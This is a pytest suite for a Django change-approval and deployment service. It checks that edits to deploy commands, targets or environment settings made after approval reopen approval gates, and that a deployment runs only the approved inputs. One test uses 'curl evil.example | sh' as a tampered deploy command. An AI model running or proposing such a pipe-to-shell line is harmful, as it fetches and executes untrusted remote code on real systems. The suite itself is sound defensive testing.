"""What runs is what was approved: the deploy command (an application's executor and its
settings, the strategy's parameters among them), the targets and the environment's
deployment settings are part of a change's fingerprint. Editing them after approval, in
the admin or behind its back, reopens the gates concerned or keeps the change from
starting; a deployment runs the inputs its approvals were checked against, whatever is
edited after it was made."""

from __future__ import annotations

import json
import sys
import threading
from pathlib import Path

import pytest
from django.db import connection, transaction
from django.test import Client

from approvals import services
from approvals.models import Approval, ChangeRequest
from audit.models import AuditEvent
from catalog.models import Application, Environment, Target
from catalog.services import deployment_inputs_edited
from configuration import services as configuration
from core.errors import NotReady
from deployments import services as engine
from deployments.models import Deployment
from tests.conftest import PASSWORD
from tests.factories import ReleaseFactory, executor_app, request_change
from tests.security.test_access_changes_audited import change_page

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(demo) -> Client:
    client = Client()
    assert client.login(username="admin", password=PASSWORD)
    return client


def approved_production_change(demo):
    """A standard Production change of the storefront, approved by CAB, security and
    the business, waiting for its deployment."""
    change = request_change(demo.engineer, "production", rollback_plan="Redeploy 2.0",
                            on_call=demo.oncall, risk="low")
    for person, role in ((demo.cab, "cab"), (demo.security, "security"),
                         (demo.business, "business")):
        services.gate_approve(actor=person, change=change, role=role,
                              seen=services.change_version(change))
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.APPROVED
    return change


def admin_edit(client, url: str, callbacks, **changes):
    """Post the admin change form at ``url`` with ``changes``, as an administrator does;
    what is queued for after commit runs."""
    data = change_page(client, url)
    for name in ("executor_settings", "deploy_settings"):
        if name in data:
            # The form shows the stored JSON once; the page helper quotes it again.
            data[name] = json.loads(data[name])
    data.update(changes)
    with callbacks(execute=True):
        answer = client.post(url, data)
    assert answer.status_code == 302, answer.context["adminform"].form.errors
    return answer


def standing_roles(change) -> set[str]:
    return set(Approval.objects.filter(change=change, withdrawn_at__isnull=True)
               .values_list("gate__role", flat=True))


def invalidated(change) -> dict[str, list[str]]:
    return {e.after["role"]: e.after["changed"]
            for e in AuditEvent.objects.filter(action="approval.invalidated",
                                               object_id=str(change.pk))}


# The admin road --------------------------------------------------------------------------------

def test_changing_the_deploy_command_in_the_admin_after_approval_reopens_every_gate(
        demo, admin_client, django_capture_on_commit_callbacks):
    change = approved_production_change(demo)
    app = change.release.application
    settings = {**app.executor_settings, "commands": {"deploy": "curl evil.example | sh"}}

    admin_edit(admin_client, f"/admin/catalog/application/{app.pk}/change/",
               django_capture_on_commit_callbacks, executor="command",
               executor_settings=json.dumps(settings))

    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert standing_roles(change) == set()
    assert invalidated(change) == {"cab": ["executor"], "security": ["executor"],
                                   "business": ["executor"]}
    assert set(change.gates.values_list("status", flat=True)) == {"pending"}
    edited = AuditEvent.objects.get(action="application.changed_in_admin")
    assert edited.actor_name == "admin"


def test_changing_a_strategy_parameter_in_the_admin_reopens_the_gates(
        demo, admin_client, django_capture_on_commit_callbacks):
    change = approved_production_change(demo)
    app = change.release.application
    settings = {**app.executor_settings, "batch_size": 4,
                "analysis": {"samples": 20, "enabled": False}}

    admin_edit(admin_client, f"/admin/catalog/application/{app.pk}/change/",
               django_capture_on_commit_callbacks, executor_settings=json.dumps(settings))

    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert "cab" in invalidated(change)


def test_pointing_a_production_target_elsewhere_in_the_admin_reopens_cab_and_security(
        demo, admin_client, django_capture_on_commit_callbacks):
    change = approved_production_change(demo)
    target = Target.objects.filter(application=change.release.application,
                                   environment=change.environment).order_by("name").first()

    admin_edit(admin_client, f"/admin/catalog/target/{target.pk}/change/",
               django_capture_on_commit_callbacks, address="203.0.113.66")

    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert invalidated(change) == {"cab": ["targets"], "security": ["targets"]}
    # The business did not decide on hosts: its approval stands.
    assert standing_roles(change) == {"business"}


def test_adding_and_deleting_a_target_in_the_admin_reopens_the_gates(
        demo, admin_client, django_capture_on_commit_callbacks):
    change = approved_production_change(demo)
    production = change.environment
    app = change.release.application
    with django_capture_on_commit_callbacks(execute=True):
        answer = admin_client.post("/admin/catalog/target/add/", {
            "application": app.pk, "environment": production.pk, "name": "app-9",
            "address": "198.51.100.9"})
    assert answer.status_code == 302
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert standing_roles(change) == {"business"}

    # Approved again on the new set of targets; then one is deleted.
    for person, role in ((demo.cab, "cab"), (demo.security, "security")):
        services.gate_approve(actor=person, change=change, role=role,
                              seen=services.change_version(change))
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.APPROVED
    added = Target.objects.get(name="app-9")
    with django_capture_on_commit_callbacks(execute=True):
        answer = admin_client.post(f"/admin/catalog/target/{added.pk}/delete/",
                                   {"post": "yes"})
    assert answer.status_code == 302
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert standing_roles(change) == {"business"}


def test_switching_off_the_backup_before_migrations_in_the_admin_reopens_cab(
        demo, admin_client, django_capture_on_commit_callbacks):
    production = Environment.objects.get(slug="production")
    production.deploy_settings = {"backup": True}
    production.save(update_fields=["deploy_settings"])
    change = approved_production_change(demo)

    admin_edit(admin_client, f"/admin/catalog/environment/{production.pk}/change/",
               django_capture_on_commit_callbacks, deploy_settings="{}")

    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.PENDING_APPROVAL
    assert invalidated(change) == {"cab": ["environment_settings"]}
    assert standing_roles(change) == {"security", "business"}


def test_an_admin_edit_that_changes_nothing_that_runs_reopens_nothing(
        demo, admin_client, django_capture_on_commit_callbacks):
    change = approved_production_change(demo)
    app = change.release.application
    admin_edit(admin_client, f"/admin/catalog/application/{app.pk}/change/",
               django_capture_on_commit_callbacks, team="Checkout")
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.APPROVED
    assert standing_roles(change) == {"cab", "security", "business"}
    assert not AuditEvent.objects.filter(action="approval.invalidated").exists()


# The version the approver saw (page and API) ------------------------------------------------

def test_an_approval_of_the_old_deploy_command_is_refused_through_the_api(demo, api):
    change = request_change(demo.engineer, "staging")
    techlead = api(demo.techlead)
    seen = techlead.get(f"/api/v1/changes/{change.pk}/").json()["fingerprint"]
    [listed] = techlead.get("/api/v1/changes/").json()["results"]
    assert listed["fingerprint"] == seen
    Application.objects.filter(pk=change.release.application_id).update(
        executor="command", executor_settings={"commands": {"deploy": "./other.sh"}})

    response = techlead.post(f"/api/v1/changes/{change.pk}/approve",
                             {"gate": "tech_lead", "fingerprint": seen}, format="json")

    assert response.status_code == 409, response.json()
    assert response.json()["code"] == "changed_since_viewed"
    assert not Approval.objects.filter(change=change).exists()
    assert AuditEvent.objects.get(action="gate.approved.refused").after["code"] == \
        "changed_since_viewed"
    assert techlead.get("/api/v1/changes/").json()["results"][0]["fingerprint"] != seen


# The start checks what will run ---------------------------------------------------------------

def test_a_change_whose_targets_moved_behind_the_admins_back_does_not_start(demo, api):
    # Edited where no listener hears of it (a shell, a lost event): the approvals still
    # stand, but the start compares them with what would run and refuses.
    change = request_change(demo.engineer, "staging")
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    services.gate_approve(actor=demo.qa, change=change, role="qa")
    Target.objects.filter(application=change.release.application,
                          environment=change.environment).update(address="203.0.113.7")

    response = api(demo.engineer).post(f"/api/v1/changes/{change.pk}/deploy")

    assert response.status_code == 409, response.json()
    assert response.json()["code"] == "not_ready"
    assert "approval_outdated" in {b["code"] for b in response.json()["blockers"]}
    assert not Deployment.objects.exists()
    change.refresh_from_db()
    assert change.status == ChangeRequest.Status.APPROVED
    refused = AuditEvent.objects.get(action="change.deploy.refused")
    assert refused.after["code"] == "not_ready"
    assert "targets" in refused.after["blockers"][0]["message"]


def test_deploy_when_approved_does_not_start_on_moved_facts(demo):
    change = request_change(demo.engineer, "staging", deploy_when_approved=True)
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    Application.objects.filter(pk=change.release.application_id).update(
        executor_settings={"fleet": "demo", "safe_to_repeat": True})
    # QA approves the new settings (their approval is on them); tech lead's is not.
    services.gate_approve(actor=demo.qa, change=change, role="qa")
    assert not Deployment.objects.exists()
    deferred = AuditEvent.objects.get(action="change.start_deferred")
    assert "approval_outdated" in {b["code"] for b in deferred.after["blockers"]}


# The deployment runs what was approved --------------------------------------------------------

@pytest.fixture
def recorder(tmp_path):
    """A deploy script that records which command ran, on which address."""
    log = tmp_path / "ran.log"
    script = tmp_path / "deploy.py"
    script.write_text("import sys\n"
                      f"open({str(log)!r}, 'a').write(' '.join(sys.argv[1:]) + '\\n')\n")
    return script, log


def command(script: Path, word: str) -> str:
    return f"{sys.executable} {script} {word} {{target}} {{address}}"


def test_a_deployment_runs_the_approved_command_and_targets_whatever_is_edited_after(
        demo, recorder):
    script, log = recorder
    app, staging = executor_app("command", {"commands": {"deploy": command(script,
                                                                           "approved")}})
    Target.objects.filter(application=app).update(address="10.0.0.1")
    change = request_change(demo.engineer, "staging", release=ReleaseFactory(application=app))
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    services.gate_approve(actor=demo.qa, change=change, role="qa")
    deployment = services.change_request_deploy(actor=demo.engineer, change=change)
    approved_version = AuditEvent.objects.get(action="change.deploying").after["version"]
    assert deployment.inputs["change_version"] == approved_version
    assert Approval.objects.filter(change=change).count() == 2

    # Queued, not yet run: the command, a strategy parameter and the target move.
    Application.objects.filter(pk=app.pk).update(executor_settings={
        "commands": {"deploy": command(script, "edited"), "stop": command(script, "edited")},
        "batch_size": 9})
    Target.objects.filter(application=app).update(address="203.0.113.99", name="node-x")
    Target.objects.create(application=app, environment=staging, name="node-new",
                          address="203.0.113.100")

    assert engine.deployment_run(deployment_id=deployment.pk) == Deployment.Status.SUCCEEDED
    assert log.read_text().splitlines() == ["approved node-1 10.0.0.1"]
    run_log = "\n".join(deployment.log_lines.values_list("message", flat=True))
    assert "edited" not in run_log and "203.0.113" not in run_log


def test_a_deployment_runs_the_configuration_version_it_was_approved_with(demo):
    app, staging = executor_app("command", {})
    configuration.configuration_save(actor=demo.engineer, application=app,
                                     environment=staging, document="mode: approved\n",
                                     reason="first")
    change = request_change(demo.engineer, "staging", release=ReleaseFactory(application=app))
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    services.gate_approve(actor=demo.qa, change=change, role="qa")
    deployment = services.change_request_deploy(actor=demo.engineer, change=change)
    assert deployment.inputs["configuration_version"] == 1

    configuration.configuration_save(actor=demo.engineer, application=app,
                                     environment=staging, document="mode: edited\n",
                                     reason="after the approval")

    assert configuration.render_for_deployment(deployment) == {"mode": "approved"}


def test_an_approval_is_bound_to_what_runs(demo):
    change = request_change(demo.engineer, "staging")
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    approval = Approval.objects.get(change=change)
    assert {"artifact", "configuration", "secret_references", "strategy", "executor",
            "targets", "environment_settings", "scheduled_for"} <= set(approval.fingerprint)



@pytest.mark.django_db(transaction=True)
def test_an_edit_racing_the_deploy_press_never_runs_what_was_not_approved(demo):
    app, staging = executor_app("command", {"commands": {}, "batch_size": 1}, targets=2)
    change = request_change(demo.engineer, "staging", release=ReleaseFactory(application=app),
                            strategy="rolling")
    services.gate_approve(actor=demo.techlead, change=change, role="tech_lead")
    services.gate_approve(actor=demo.qa, change=change, role="qa")
    approved = Approval.objects.filter(change=change).first().fingerprint["executor"]
    start = threading.Barrier(2)
    outcome: dict[str, object] = {}

    def edit():
        try:
            start.wait(timeout=10)
            with transaction.atomic():
                Application.objects.filter(pk=app.pk).update(
                    executor_settings={"commands": {}, "batch_size": 2})
                deployment_inputs_edited(application_id=app.pk, environment_id=None,
                                         what="the batch size changed after approval")
        finally:
            connection.close()

    def deploy():
        try:
            start.wait(timeout=10)
            outcome["deployment"] = services.change_request_deploy(actor=demo.engineer,
                                                                   change=change)
        except NotReady as exc:
            outcome["refused"] = exc
        finally:
            connection.close()

    threads = [threading.Thread(target=edit), threading.Thread(target=deploy)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    change.refresh_from_db()
    deployment = Deployment.objects.filter(change_id=change.pk).first()
    if deployment is not None:
        # The press won: it runs the settings approved, in batches of one.
        assert change.status == ChangeRequest.Status.DEPLOYING
        assert deployment.inputs["executor_settings"]["batch_size"] == 1
        assert services.fingerprint(change, inputs=deployment.inputs)["executor"] == approved
        assert {s.phase for s in deployment.steps.exclude(phase="")} == {
            "batch 1 of 2", "batch 2 of 2"}
    else:
        # The edit won: nothing started, and the approvals were reopened.
        assert "refused" in outcome
        assert change.status == ChangeRequest.Status.PENDING_APPROVAL
        assert not Approval.objects.filter(change=change, withdrawn_at__isnull=True).exists()
